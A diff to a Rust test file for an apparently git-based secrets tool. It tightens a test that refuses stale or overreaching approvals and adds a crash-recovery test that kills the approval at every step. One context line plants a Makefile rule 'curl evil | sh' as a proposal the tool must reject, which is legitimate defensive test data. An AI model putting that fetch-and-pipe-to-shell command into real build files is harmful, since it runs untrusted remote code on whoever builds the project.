@@ -195,6 +195,7 @@ fn stale_and_overreaching_proposals_are_refused() {
     let (w, bob, carol) = three_admins_k2();
     let p1 = propose_set(&w, "value-1");
     let p2 = propose_set(&w, "value-2");
+    let p3 = propose_set(&w, "value-3");
     // A proposal whose branch also changes another file.
     w.git_ok(&w.proj, &["checkout", "-q", &p2]);
     fs::write(w.proj.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
@@ -204,13 +205,17 @@ fn stale_and_overreaching_proposals_are_refused() {
     let heads = w.heads();
     let o = approve(&w, &bob, &p2);
     assert_failed(&o, "approve a proposal that touches Makefile");
-    assert_stderr_contains(&o, "more than .byreis/approvals.sig", "names the overreach");
+    assert_stderr_contains(
+        &o,
+        "not byreis's to change: Makefile",
+        "names the overreach",
+    );
     assert_eq!(w.heads(), heads, "nothing changed");
-    // p1 lands; p2 was made on the old state: stale.
+    // p1 lands; p3 was made on the old state: stale.
     assert_ok(&approve(&w, &bob, &p1), "bob approves p1");
     w.assert_get("prod", "DB", "value-1");
     let heads = w.heads();
-    let o = approve(&w, &carol, &p2);
+    let o = approve(&w, &carol, &p3);
     assert_failed(&o, "approve a stale proposal");
     assert_stderr_contains(&o, "stale", "stale named");
     assert_eq!(w.heads(), heads, "nothing changed");
@@ -218,4 +223,86 @@ fn stale_and_overreaching_proposals_are_refused() {
     let o = approve(&w, &carol, "main");
     assert_failed(&o, "approve main");
     assert_stderr_contains(&o, "not a proposal branch", "approve main");
+}
+
+/// A kill -9 at every step boundary of the approval that lands a change
+/// (and of a plain `set`, below the threshold): every value stays readable,
+/// doctor names the state, and `--resume` or `--abort` leaves it clean.
+#[test]
+fn kill_at_every_step_of_an_approval_then_recover() {
+    let (w, bob, _carol) = three_admins_k2();
+    let steps = [
+        "prepared",
+        "commit-object",
+        "begun",
+        "branch",
+        "project-pushed",
+        "recorded",
+    ];
+    for (i, step) in steps.iter().enumerate() {
+        let what = format!("approval killed at {step}");
+        let old = format!("value-before-{i}");
+        // Land `old` first (a proposal approved by bob), then propose `new`.
+        let b = propose_set(&w, &old);
+        assert_ok(&approve(&w, &bob, &b), "bob approves");
+        let new = format!("value-after-{i}");
+        let branch = propose_set(&w, &new);
+        let o = run_env(
+            &bob.home,
+            &w.proj,
+            &["approve", &branch, "--yes"],
+            None,
+            &[
+                ("BYREIS_ANCHOR", w.anchor.as_str()),
+                ("BYREIS_TEST_KILL_AT", step),
+            ],
+        );
+        assert_eq!(
+            std::os::unix::process::ExitStatusExt::signal(&o.status),
+            Some(9),
+            "{what}: expected SIGKILL\n{}",
+            dump(&o)
+        );
+        // Every value readable: the old one until the record pins the new.
+        let o = w.alice_run(&["get", "prod", "DB"]);
+        assert_ok(&o, &what);
+        let served = stdout(&o).trim().to_string();
+        let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
+        match *step {
+            "prepared" | "commit-object" => {
+                assert_eq!(served, old, "{what}");
+                assert_doctor_ok(&o, &v, &what);
+                // Nothing landed: the proposal can still be approved.
+                assert_ok(
+                    &approve(&w, &bob, &branch),
+                    &format!("{what}: approve again"),
+                );
+            }
+            "begun" | "branch" | "project-pushed" => {
+                assert_eq!(
+                    served, old,
+                    "{what}: a pending change serves the last complete state"
+                );
+                assert_doctor_fails(&o, &v, &["change-pending"], &what);
+                let recover: &[&str] = if i % 2 == 0 {
+                    &["rotate", "--resume", "--yes"]
+                } else {
+                    &["rotate", "--abort"]
+                };
+                assert_ok(&w.alice_run(recover), &format!("{what}: {recover:?}"));
+                let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
+                assert_doctor_ok(&o, &v, &format!("{what}: after {recover:?}"));
+                let expected = if i % 2 == 0 { &new } else { &old };
+                w.assert_get("prod", "DB", expected);
+                if i % 2 == 1 {
+                    // Aborted: the proposal still stands on the old state.
+                    let _ = w.git(&w.proj, &["branch", "-D", &branch]);
+                }
+            }
+            _ => {
+                assert_eq!(served, new, "{what}");
+                assert_doctor_ok(&o, &v, &what);
+            }
+        }
+    }
 }
